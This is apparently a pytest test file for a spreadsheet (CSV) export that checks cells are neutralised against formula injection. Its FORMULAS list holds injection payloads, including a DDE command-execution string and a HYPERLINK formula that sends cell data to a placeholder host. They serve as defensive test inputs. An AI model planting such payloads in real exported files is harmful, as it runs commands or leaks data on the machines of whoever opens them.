"""The table for spreadsheets: well-formed, and nothing in it begins a formula, however the file is parted."""

import csv
import re
from io import StringIO

import pytest
from hypothesis import example, given

from app.charter.room_shapes import RoomData
from app.charter.table import COLUMNS, MARK, harmless, room_csv
from tests.charter.hostile import NASTY

BEGINS = re.compile('[\\s"]*[=+@＝＋－＠﹦﹢﹣﹫−-]')
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example?x="&A1)',
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "a;=1+1",
    'a;"=1+1"',
    "a\n=1+1",
    "a\r\n;\t=1+1",
    "\u2028=1",
)
WORDS = NASTY.map(lambda text: text.encode("utf-8", "ignore").decode().replace("\x00", ""))


def holding(word: str) -> RoomData:
    """A room whose words are all this one."""
    return {
        "format": "touchstone-room/1",
        "room": "KT7M4R",
        "title": word,
        "purpose": word,
        "language": "en",
        "stage": "closed",
        "scale": "kaner",
        "open_names": True,
        "people": {"taking_part": 1, "put_in": 1},
        "clusters": [{"cluster": 1, "name": word, "chosen": True}],
        "cards": [{"label": word, "count": 1, "cluster": 1, "stories": [word], "by": [word, word]}],
        "vote": {"rule": "turns", "places": 3, "dots": 2, "answered": 1, "of": 1, "results": [{"cluster": 1, "dots": 1}]},
        "values": [
            {
                "cluster": 1,
                "status": "left_open",
                "name": word,
                "statement": word,
                "until": "2026-12-01",
                "rounds": [
                    {"round": 1, "name": word, "statement": word, "answered": 1, "of": 1, "spread": {"full": 1}, "needs": [word]}
                ],
                "wordings": [{"name": word, "statement": word, "can_live": 1}],
            }
        ],
        "behaviours": [{"cluster": 1, "text": word, "kind": "will", "endorsed": 1, "accepted": True}],
        "parked": [{"text": word, "name": word}],
        "charter": {
            "format": "touchstone-charter/1",
            "title": word,
            "language": "en",
            "values": [],
            "not_agreed_yet": [],
            "commitments": [{"text": word, "owner": word, "due": "2026-12-01"}],
            "signatures": {"names": [word], "without_name": 1, "reservations": [{"text": word, "name": word}]},
            "for_the_follow_up": [word],
            "digest": "ab" * 32,
        },
    }  # fmt: skip


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


PLAIN = rows(room_csv(holding("Anna")))


@given(WORDS)
@example("a,b;c\td\"e''f\r\ng")
def test_EXPORT_4_it_is_rfc_4180_with_as_many_rows_and_columns_as_with_plain_words(word: str) -> None:
    data = room_csv(holding(word))
    assert data.startswith(MARK.encode())
    assert data.endswith(b'"\r\n')
    read = rows(data)
    assert read[0] == list(COLUMNS)
    assert [len(row) for row in read] == [len(COLUMNS)] * len(PLAIN)
    assert [row[0] for row in read] == [row[0] for row in PLAIN]
    assert {row[COLUMNS.index("text")] for row in read if row[0] == "need"} == {harmless(word)}


@pytest.mark.parametrize("parting", [",", ";", "\t"])
@given(WORDS)
@example("a;=1+1")
def test_EXPORT_4_no_cell_begins_as_a_formula_does_for_readers_of_this_or_another_kind(
    parting: str, word: str
) -> None:
    """Those that part by commas mind quotation marks; others would see none around what they part by."""
    for start in ("", *FORMULAS):
        text = room_csv(holding(start + word)).decode("utf-8-sig")
        if parting == ",":
            cells = [cell for row in rows(text.encode()) for cell in row]
        else:
            cells = [cell for line in text.splitlines() for cell in line.split(parting)]
        assert not [cell for cell in cells if BEGINS.match(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_EXPORT_4_what_would_be_a_formula_gets_an_apostrophe_and_keeps_its_characters(text: str) -> None:
    assert harmless(text) != text
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["Honesty, early", "a-b", "1 + 1", "x@y", "So: yes", "“quoted”", "Größe", ""]
)
def test_EXPORT_4_other_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
